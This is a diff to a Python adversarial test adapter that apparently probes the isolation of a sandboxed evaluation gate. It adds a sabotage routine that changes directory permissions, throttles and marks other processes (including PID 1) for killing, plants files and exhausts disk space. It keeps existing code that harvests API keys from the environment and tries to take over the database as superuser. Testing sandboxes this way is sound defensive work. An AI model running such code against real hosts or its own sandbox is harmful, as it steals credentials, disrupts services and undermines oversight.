@@ -1,14 +1,16 @@
 """A system under test that tries everything to find the gate's secrets. Copied into a repository as its adapter."""
+# ruff: noqa: S108 - paths inside the container
 
 import contextlib
 import ctypes
 import json
 import os
 import re
+import resource
 import signal
 import socket
 import stat
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -23,6 +25,10 @@ PLACES = ("environ", "cmdline", "maps", "auxv", "comm", "stack", "status", "moun
 VARIABLES = re.compile(
     r"PATH|HOME|TMPDIR|LANG|LC_[A-Z]+|TZ|SSL_CERT_(FILE|DIR)|DATABASE_URL|(ANTHROPIC|OPENAI)_(BASE_URL|API_KEY)"
     r"|GOOGLE_GEMINI_BASE_URL|GEMINI_API_BASE|(GEMINI|GOOGLE)_API_KEY"  # the gateway's address and token, too
+)
+GATES = (
+    *("/", "/tmp", "/report", "/report/step", "/report/ratiba-report", "/workspace", "/run/ratiba", "/home/ratiba"),
+    *("/sandbox", "/sandbox/base", "/sandbox/head"),
 )
 LIBC = ctypes.CDLL(None, use_errno=True)
 
@@ -76,12 +82,65 @@ class Conversation:
     def write(self) -> dict[str, Any]:
         return {"written": [str(path) for path in targets() if plants(path)]}
 
+    def sabotage(self) -> dict[str, Any]:
+        """Make the gate, its database or the base fail."""
+        return {
+            "modes": [place for place in (*GATES, *run_folders()) if succeeds(os.chmod, place, 0o500)],
+            "listed": [place for place in GATES if succeeds(os.listdir, place)],
+            "limits": [name(pid) for pid in not_mine() if succeeds(limit, int(pid.name))],
+            "affinity": [name(pid) for pid in not_mine() if succeeds(os.sched_setaffinity, int(pid.name), {0})],
+            "ended first": [name(pid) for pid in not_mine() if succeeds((pid / "oom_score_adj").write_text, "1000")],
+            "memory of the database": [str(path) for path in Path("/dev/shm").glob("PostgreSQL*")],
+            "written": [place for place in GATES if plants(Path(place) / "planted")],
+            "shared": without_room(),
+        }
+
     def rule(self) -> dict[str, Any]:
         """Become the superuser of the database server."""
         return {
             "data read": [str(path) for path in Path("/").glob("[td]*/**/pg_hba.conf") if read_one(path)],
             "superuser": becomes_superuser(self._database_url),
         }
+
+
+def succeeds(attempt: Callable[..., object], *arguments: Any) -> bool:
+    try:
+        attempt(*arguments)
+    except OSError:
+        return False
+    return True
+
+
+def limit(pid: int) -> None:
+    resource.prlimit(pid, resource.RLIMIT_STACK, (1, 1))
+
+
+def not_mine() -> list[Path]:
+    return [*others(), Path("/proc/1")]
+
+
+def run_folders() -> set[str]:
+    """The run's and the database's, by the command lines of other processes: their names cannot be listed."""
+    words = {word for pid in others() for word in command_line(pid)}
+    return {word for word in words if word.startswith("/tmp/ratiba-")}
+
+
+def command_line(pid: Path) -> list[str]:
+    try:
+        return (pid / "cmdline").read_bytes().decode(errors="replace").split("\0")
+    except OSError:
+        return []
+
+
+def without_room() -> list[str]:
+    """Where a file that takes all room in the own folder takes it from others too."""
+    own = Path(os.environ["TMPDIR"])
+    before = {place: os.statvfs(place).f_bavail for place in ("/tmp", "/sandbox/base")}
+    with (own / "large").open("wb") as file, contextlib.suppress(OSError):
+        os.posix_fallocate(file.fileno(), 0, os.statvfs(own).f_bavail * os.statvfs(own).f_frsize // 64)
+    taken = [place for place, room in before.items() if room - os.statvfs(place).f_bavail > room // 256]
+    (own / "large").unlink()
+    return taken
 
 
 def name(pid: Path) -> str:
